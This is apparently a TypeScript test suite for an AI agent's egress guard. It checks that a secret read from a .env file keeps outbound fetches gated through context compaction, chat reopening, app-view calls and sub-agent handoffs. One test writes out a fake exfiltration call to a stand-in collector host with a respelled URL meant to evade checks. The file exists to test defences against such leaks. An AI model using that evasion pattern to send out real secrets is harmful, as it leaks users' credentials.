// Labels as the chat's state, end to end: a secret read early in a chat still makes outbound calls ask after
// compaction has dropped the message that held it and after the chat is opened again from disk; a sub-agent (the
// real orchestrator) hands up the labels of what it read and works under the labels it was handed down.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import Anthropic from '@anthropic-ai/sdk';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { ChatHistory } from '../../src/core/chat/chat-history';
import { newChatId, newMeta } from '../../src/core/chat/chat-meta';
import { ChatSession, type TurnConfig } from '../../src/core/chat/chat-session';
import type { ApprovalRequest } from '../../src/core/agent/types';
import { LABELS_META } from '../../src/core/egress/labels';
import { FakeAnthropicApi, isToolResultTurn, lastUserText, type MessagesBody, type Reply } from '../fakes/anthropic-api';
import { defaultModels } from '../fakes/fake-models';
import { localSite } from '../fakes/local-site';
import { host, memoryStore } from '../fakes/tool-host';
import { startOrchestrator, textOf } from './orchestrator-harness';
import { scaled } from '../support/until';

const SMALL_WINDOW = 8000;
const SECRET = 'DB_PASSWORD=hunter2-very-secret';

describe('a secret stays the chat state through compaction and a restart', () => {
  /** Reads .env when told to, fetches the person's site when told to, else answers at length (filling the window). */
  function model(body: MessagesBody): Reply {
    const said = lastUserText(body);
    if (/getting too long for the context window/.test(said)) return { text: 'Summary: we talked about the weather.' };
    if (isToolResultTurn(body)) return { text: 'Done.' };
    if (said.includes('read the config')) return { toolUses: [{ name: 'workspace__read_file', input: { path: '.env' } }] };
    if (said.includes('fetch the site')) return { toolUses: [{ name: 'web__fetch_url', input: { url: 'https://example.com/status' } }] };
    return { text: `Noted. ${'Some words of an answer that takes room in the context. '.repeat(8)}` };
  }
  const api = new FakeAnthropicApi(model);
  let dir: string;
  let client: Anthropic;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'egress-labels-'));
    client = new Anthropic({ apiKey: 'sk-test', baseURL: await api.start(), maxRetries: 0 });
    api.models = [...defaultModels(), { ...defaultModels()[1]!, id: 'claude-small', max_input_tokens: SMALL_WINDOW }];
  });
  after(async () => {
    await api.stop();
    rmSync(dir, { recursive: true, force: true });
  });
  const config = (): TurnConfig => ({
    client,
    model: 'claude-small',
    maxTokens: 1024,
    maxIterations: 3,
    toolTimeoutMs: 5000,
    keyHint: '',
    contextWindow: SMALL_WINDOW,
  });
  const tools = () =>
    host({
      workspace__read_file: { readOnly: true, run: async () => ({ content: [{ type: 'text', text: SECRET }] }) },
      web__fetch_url: { readOnly: true, run: async () => ({ content: [{ type: 'text', text: 'all good' }] }) },
    });

  test('after the .env message is summarised away, and after reopening, a fetch to the named site still asks', { timeout: scaled(120_000) }, async () => {
    const history = new ChatHistory(join(dir, 'chats'));
    const meta = newMeta(newChatId(), 'claude-small');
    const asked: ApprovalRequest[] = [];
    const deps = (toolHost: ReturnType<typeof tools>) => ({
      store: history.store(meta.id),
      host: toolHost,
      workspace: undefined,
      approvals: memoryStore(),
      ask: async (r: ApprovalRequest) => (asked.push(r), 'deny' as const),
    });
    const chat = new ChatSession({ meta, ...deps(tools()) });
    assert.equal(await chat.send('Please read the config, and keep https://example.com in mind.', [], config()), 'done');
    for (let i = 0; i < 60 && !chat.events.some((e) => e.kind === 'compaction'); i++) await chat.send(`Tell me about the weather, part ${i}.`, [], config());
    assert.ok(
      chat.events.some((e) => e.kind === 'compaction'),
      'the chat was compacted',
    );
    assert.doesNotMatch(JSON.stringify(chat.messages), /hunter2/, 'the secret is no longer in what the model sees');

    await chat.send('Now fetch the site example.com.', [], config());
    assert.equal(asked.length, 1, 'the fetch asked');
    assert.match(asked[0]!.egress?.why ?? '', /holds a secret \(workspace__read_file read \.env\)/);
    await chat.flush();

    const reopened = new ChatSession({ meta: (await history.get(meta.id))!, ...deps(tools()) });
    await reopened.load();
    await reopened.send('Now fetch the site example.com again.', [], config());
    assert.equal(asked.length, 2, 'the fetch asked after reopening');
    assert.match(asked[1]!.egress?.why ?? '', /holds a secret/);
  });
});

describe('a call an MCP App view asks for goes through the same guard', () => {
  test('a view calling fetch_url with a respelled address asks, and so does one carrying a secret the chat read', { timeout: scaled(60_000) }, async () => {
    const dir = mkdtempSync(join(tmpdir(), 'egress-view-'));
    try {
      const history = new ChatHistory(dir);
      const meta = newMeta(newChatId(), 'claude-small');
      const asked: ApprovalRequest[] = [];
      const fetched: string[] = [];
      const toolHost = host({
        workspace__read_file: { readOnly: true, run: async () => ({ content: [{ type: 'text', text: SECRET }] }) },
        web__fetch_url: { readOnly: true, run: async (args) => (fetched.push(String(args.url)), { content: [{ type: 'text', text: 'ok' }] }) },
      });
      const chat = new ChatSession({
        meta,
        store: history.store(meta.id),
        host: toolHost,
        workspace: undefined,
        approvals: memoryStore(),
        ask: async (r) => (asked.push(r), 'deny'),
      });
      await chat.load();
      const fetchTool = toolHost.tools().find((t) => t.qualifiedName === 'web__fetch_url')!;
      const view = (url: string) =>
        chat.callForApp({ ...fetchTool, tool: { ...fetchTool.tool, annotations: { openWorldHint: true } } }, { url }, new AbortController().signal);
      const spelled = await view('http:\\\\collector.example.net/c?d=1');
      assert.equal(spelled.ok, false);
      assert.deepEqual(asked.at(-1)?.egress?.hosts, ['collector.example.net']);
      const readTool = toolHost.tools().find((t) => t.qualifiedName === 'workspace__read_file')!;
      await chat.callForApp(readTool, { path: '.env' }, new AbortController().signal);
      await view('https://example.com/');
      assert.match(asked.at(-1)?.egress?.why ?? '', /holds a secret \(workspace__read_file read \.env\)/);
      assert.deepEqual(fetched, [], 'nothing was fetched');
      // Its writes end before the folder goes: a CI run removed the folder while the chat still wrote (ENOTEMPTY).
      await chat.close();
    } finally {
      rmSync(dir, { recursive: true, force: true, maxRetries: 5 });
    }
  });
});

describe('a sub-agent carries labels both ways (the real orchestrator)', () => {
  test('a sub-agent that read .env hands the secret up with its reply', { timeout: scaled(90_000) }, async () => {
    const api = new FakeAnthropicApi((body) =>
      isToolResultTurn(body) ? { text: 'I read it.' } : { toolUses: [{ name: 'workspace__read_file', input: { path: '.env' } }] },
    );
    const ws = mkdtempSync(join(tmpdir(), 'egress-sub-'));
    const home = mkdtempSync(join(tmpdir(), 'egress-sub-home-'));
    writeFileSync(join(ws, '.env'), `${SECRET}\n`);
    const orch = await startOrchestrator(ws, { env: { ANTHROPIC_API_KEY: 'sk-test', ANTHROPIC_BASE_URL: await api.start(), MCP_AGENT_HOME: home } });
    try {
      const result = await orch.call('start_agent', { session_name: 'reader', agent_name: 'general', prompt: 'Read .env.' });
      const labels = result._meta?.[LABELS_META] as { secrets: string[]; private: boolean } | undefined;
      assert.ok(labels, `labels came up: ${JSON.stringify(result._meta)}`);
      assert.match(labels.secrets.join('\n'), /workspace__read_file read \.env/);
      assert.equal(labels.private, true);
    } finally {
      await orch.close();
      await api.stop();
      rmSync(ws, { recursive: true, force: true });
      rmSync(home, { recursive: true, force: true });
    }
  });

  test('handed a secret, a sub-agent does not send even to a host the person named', { timeout: scaled(90_000) }, async () => {
    const site = await localSite('<html><body>ok</body></html>');
    const url = `http://localhost:${site.port}/status`;
    const api = new FakeAnthropicApi((body) =>
      isToolResultTurn(body) ? { text: `Result: ${lastUserText(body).slice(0, 300)}` } : { toolUses: [{ name: 'web__fetch_url', input: { url } }] },
    );
    const ws = mkdtempSync(join(tmpdir(), 'egress-sub-'));
    const home = mkdtempSync(join(tmpdir(), 'egress-sub-home-'));
    const orch = await startOrchestrator(ws, {
      env: {
        ANTHROPIC_API_KEY: 'sk-test',
        ANTHROPIC_BASE_URL: await api.start(),
        MCP_AGENT_HOME: home,
        MCP_AGENT_ORCHESTRATOR_APPROVE: 'all',
        MCP_AGENT_FETCH_ALLOW: `localhost:${site.port}`,
      },
    });
    const start = (session: string, handed: Record<string, unknown>): Promise<CallToolResult> =>
      orch.client.callTool({
        name: 'start_agent',
        arguments: { session_name: session, agent_name: 'general', prompt: 'Check the status page.' },
        _meta: { [LABELS_META]: handed },
      }) as Promise<CallToolResult>;
    try {
      const named = await start('named', { secrets: [], named: ['localhost'] });
      assert.equal(site.hits.length, 1, `the named host was fetched: ${textOf(named)}`);
      const secret = await start('secret', { secrets: ['workspace__read_file read .env'], named: ['localhost'] });
      assert.equal(site.hits.length, 1, 'nothing more reached the site');
      assert.match(textOf(secret), /holds a secret \(the chat that started this agent: workspace__read_file read \.env\)/);
    } finally {
      await orch.close();
      await api.stop();
      site.server.close();
      rmSync(ws, { recursive: true, force: true });
      rmSync(home, { recursive: true, force: true });
    }
  });
});
